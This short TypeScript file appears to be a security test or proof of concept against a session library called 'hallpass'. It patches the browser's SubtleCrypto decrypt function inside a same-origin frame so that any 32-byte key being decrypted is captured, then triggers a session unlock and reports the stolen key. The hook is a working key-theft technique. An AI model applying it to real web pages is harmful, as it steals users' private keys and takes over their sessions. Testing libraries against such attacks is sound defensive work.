// In a frame of the same origin: patches the browser first, and only then loads hallpass and has it take the session up.
import { publicKeyOf } from '../tools/key'
import { answerOnce } from '../tools/frame'
import { patch } from '../tools/patch'
import type { Setup } from '../victim'

let caught = new Uint8Array(0)
patch(SubtleCrypto.prototype, 'decrypt', (real) =>
  async function (this: unknown, ...values) {
    const opened = (await Reflect.apply(real, this, values)) as ArrayBuffer
    // States are opened too: a key has 32 bytes.
    if (opened.byteLength === 32) caught = new Uint8Array(opened.slice(0))
    return opened
  },
)

answerOnce(async (setup: Setup) => {
  const { openHallpass, scopeOf } = await import('../victim')
  const { session } = await openHallpass(setup).restore({ scope: scopeOf(setup.config) })
  await session?.unlock()
  return { length: caught.length, publicKey: publicKeyOf(caught) }
})
